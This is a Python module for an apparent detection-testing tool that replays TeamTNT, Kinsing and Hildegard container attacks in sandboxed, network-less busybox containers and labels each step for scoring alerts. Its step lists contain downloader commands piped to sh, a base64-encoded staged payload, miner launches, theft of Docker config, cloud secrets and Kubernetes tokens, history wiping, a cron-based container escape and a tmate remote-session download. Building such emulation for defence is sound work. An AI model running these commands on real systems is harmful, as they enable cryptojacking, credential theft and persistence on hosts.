"""``execguard emulate docker``: run the Docker-side attack procedures for real, safely, and label what was done.

Everything runs in busybox containers (image ``local/bb:1``, imported from /usr/bin/busybox when missing) with
``network_mode="none"``: the downloads fail, nothing leaves the host. Only a local daemon is accepted (unix socket or
TCP on a loopback address) unless ``--allow-remote``. Every container made is removed at the end, even on error.

The labels file has one line per API action, keyed by time, container, exec ID and step, so ``execguard score``
joins the alerts of ``execguard hunt`` over the daemon's events (``--events`` writes them) or debug log to it by
``event_id`` (the exec ID), container ID or name, or time.
"""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import json
import secrets
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable
from datetime import UTC, datetime
from typing import IO, Any
from urllib.parse import urlsplit

import docker
import docker.errors

IMAGE = "local/bb:1"
EMU_LABEL = "io.execguard.emulate"
SCENARIOS = ("teamtnt", "kinsing")
RUNTIME = "runtime"  # exec through containerd with ctr: needs the daemon's containerd socket (--containerd)
CTR_TIMEOUT = 60.0


class EmulateError(RuntimeError):
    pass


def is_local(url: str) -> bool:
    parts = urlsplit(url)
    if parts.scheme in ("unix", "npipe"):
        return True
    if parts.scheme not in ("tcp", "http", "https"):
        return False
    host = parts.hostname or ""
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _now() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


class Emulator:
    def __init__(self, client: Any, out: IO[str], image: str = IMAGE, containerd: str | None = None) -> None:
        self.client = client
        self.containerd = containerd  # the daemon's containerd socket, for the runtime procedure
        self.api = client.api
        self.out = out
        self.image = image
        self.created: list[str] = []
        self.tmpdirs: list[str] = []
        self.run_id = secrets.token_hex(3)
        self.actions = 0
        self.errors: dict[str, str] = {}

    # ---- plumbing ----------------------------------------------------------------------------
    def ensure_image(self) -> None:
        try:
            self.client.images.get(self.image)
        except docker.errors.ImageNotFound:
            from ..testing.dockerd import busybox_rootfs_tar

            repo, _, tag = self.image.rpartition(":")
            self.api.import_image_from_data(busybox_rootfs_tar(), repository=repo, tag=tag)

    def label(self, scenario: str, procedure: str, step: str, container: Any, exec_id: str | None, command: list[str],
              **extra: Any) -> None:
        if container.id in self.errors:
            extra["error"] = self.errors[container.id]
        rec = {"time": _now(), "container": container.id, "container_name": container.name, "exec_id": exec_id, "step": step,
               "scenario": scenario, "procedure": procedure, "malicious": True, "command": command, **extra}
        self.out.write(json.dumps(rec, separators=(",", ":")) + "\n")
        self.out.flush()
        self.actions += 1

    def run(self, name: str, cmd: list[str], labels: dict[str, str] | None = None, **kw: Any) -> Any:
        ctr = self.client.containers.create(self.image, cmd, name=f"{name}-{self.run_id}", network_mode="none", detach=True,
                                            labels={EMU_LABEL: self.run_id, **(labels or {})}, **kw)
        self.created.append(ctr.id)
        try:
            ctr.start()
        except docker.errors.APIError as exc:
            # e.g. a privileged container where the runtime may not grant all capabilities: the create is in the
            # daemon's log all the same, so it is labelled, with the error
            self.errors[ctr.id] = str(exc.explanation or exc)
        return ctr

    def exec(self, ctr: Any, cmd: list[str], *, user: str = "", privileged: bool = False, detach: bool = False) -> tuple[str, int | None]:
        exec_id = self.api.exec_create(ctr.id, cmd, user=user, privileged=privileged)["Id"]
        self.api.exec_start(exec_id, detach=detach)
        code = None if detach else self.api.exec_inspect(exec_id).get("ExitCode")
        return exec_id, code

    def cleanup(self) -> None:
        for cid in self.created:
            with contextlib.suppress(Exception):
                self.client.containers.get(cid).remove(force=True)
        self.created.clear()
        for d in self.tmpdirs:
            shutil.rmtree(d, ignore_errors=True)

    # ---- procedures --------------------------------------------------------------------------
    def teamtnt(self) -> None:
        sc, proc = "teamtnt", "G0139"
        victims = [self.run(n, ["sleep", "600"], labels={"app": n}) for n in ("web", "api")]
        miner = "http://198.51.100.23/bin/xmrig"
        stage = base64.b64encode(b"wget -q -O - http://198.51.100.23/cmd/init.sh | sh").decode()
        steps = [
            ("download miner", ["sh", "-c", f"mkdir -p /tmp/.x; wget -q -T 2 -O /tmp/.x/xmrig {miner} || true; chmod +x /tmp/.x/xmrig"], "",
             False, False),
            ("run miner", ["sh", "-c", "nohup /tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1 >/dev/null 2>&1 &"], "",
             False, True),
            ("staged payload", ["sh", "-c", f"echo {stage} | base64 -d | sh"], "", False, False),
            ("steal credentials", ["sh", "-c", "cat /root/.docker/config.json 2>/dev/null; env | grep -i -E 'aws|secret|token'"], "0",
             True, False),
            ("wipe history", ["sh", "-c", "rm -f ~/.ash_history /root/.ash_history; unset HISTFILE; cat /dev/null > /tmp/wtmp"], "",
             False, False),
        ]
        for ctr in victims:
            for step, cmd, user, priv, detach in steps:
                exec_id, code = self.exec(ctr, cmd, user=user, privileged=priv, detach=detach)
                self.label(sc, proc, step, ctr, exec_id, cmd, user=user, privileged=priv, exit_code=code)
        host_dir = tempfile.mkdtemp(prefix="execguard-emu-")  # stands in for the host's / : nothing real is touched
        self.tmpdirs.append(host_dir)
        cmd = ["sh", "-c", "echo '* * * * * root wget -q -O - http://198.51.100.23/cron.sh | sh' >> /host/crontab"]
        esc = self.run("escape", cmd, privileged=True, volumes={host_dir: {"bind": "/host", "mode": "rw"}})
        self.label(sc, proc, "escape to host", esc, None, cmd, privileged=True, binds=[f"{host_dir}:/host"])
        if esc.id not in self.errors:
            esc.wait(timeout=30)

    def kinsing(self) -> None:
        # busybox has no bash: the same entrypoint through sh
        cmd = ["-c", "apt-get update && apt-get install -y wget cron; wget -q -O - http://203.0.113.66/d.sh | sh"]
        ctr = self.run("ubuntu", cmd, entrypoint=["sh"])
        self.label("kinsing", "S0599", "create container with downloader entrypoint", ctr, None, ["sh", *cmd])
        if ctr.id not in self.errors:
            ctr.wait(timeout=30)


    def runtime(self) -> None:
        """Hildegard's kubelet /run lands in the runtime: exec with ctr, no Docker exec, no API server record.

        Each command ends in ``sleep 1; true`` as a real download or session would run for a while, so the
        runtime watcher reads its argv from /proc before it exits (a last ``sleep`` alone would be exec'd
        by the shell, replacing the argv that /proc shows)."""
        ctr_bin = shutil.which("ctr")
        if ctr_bin is None or not self.containerd:
            raise EmulateError("the runtime procedure needs ctr on PATH and the daemon's containerd socket (--containerd)")
        sc, proc, address = RUNTIME, "S0601", self.containerd.removeprefix("unix://")
        victim = self.run("node-app", ["sleep", "600"], labels={"app": "node-app"})
        steps = [
            ("read token", ["sh", "-c", "id; cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; sleep 1; true"]),
            ("download tmate", ["sh", "-c", "wget -q -T 1 -O /tmp/tmate http://198.51.100.7/tmate; chmod +x /tmp/tmate; sleep 1; true"]),
            ("remote session", ["sh", "-c", "/tmp/tmate -S /tmp/.t new-session -d 2>/dev/null; sleep 1; true"]),
            ("run miner", ["sh", "-c", "/tmp/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1 2>/dev/null; sleep 1; true"]),
        ]
        for i, (step, cmd) in enumerate(steps):
            exec_id = f"egemu-{self.run_id}-{i}"
            argv = [ctr_bin, "--address", address, "--namespace", "moby", "task", "exec", "--exec-id", exec_id, victim.id, *cmd]
            try:
                r = subprocess.run(argv, capture_output=True, timeout=CTR_TIMEOUT, check=False, stdin=subprocess.DEVNULL)
            except subprocess.TimeoutExpired as exc:
                raise EmulateError(f"ctr task exec {exec_id}: no answer within {CTR_TIMEOUT:.0f}s") from exc
            extra: dict[str, Any] = {"via": "ctr task exec", "exit_code": r.returncode}
            if r.returncode and r.stderr:
                extra["error"] = r.stderr.decode(errors="replace").strip()[:300]
            self.label(sc, proc, step, victim, exec_id, cmd, **extra)


def emulate(client: Any, scenario: str, out: IO[str], events: IO[str] | None = None, containerd: str | None = None) -> int:
    emu = Emulator(client, out, containerd=containerd)
    emu.ensure_image()
    chosen = (*SCENARIOS, *((RUNTIME,) if containerd else ())) if scenario == "all" else (scenario,)
    procs: dict[str, Callable[[], None]] = {"teamtnt": emu.teamtnt, "kinsing": emu.kinsing, RUNTIME: emu.runtime}
    since = int(time.time()) - 1
    try:
        for name in chosen:
            procs[name]()
    finally:
        emu.cleanup()
        if events is not None:
            write_events(client, since, events)
    return emu.actions


def write_events(client: Any, since: int, out: IO[str]) -> None:
    """The daemon's events since then, as `docker events --format '{{json .}}'` prints them (the docker-events source)."""
    until = int(time.time()) + 1  # the daemon ends the stream once this second has passed
    for ev in client.api.events(since=since, until=until, decode=True):
        out.write(json.dumps(ev, separators=(",", ":")) + "\n")
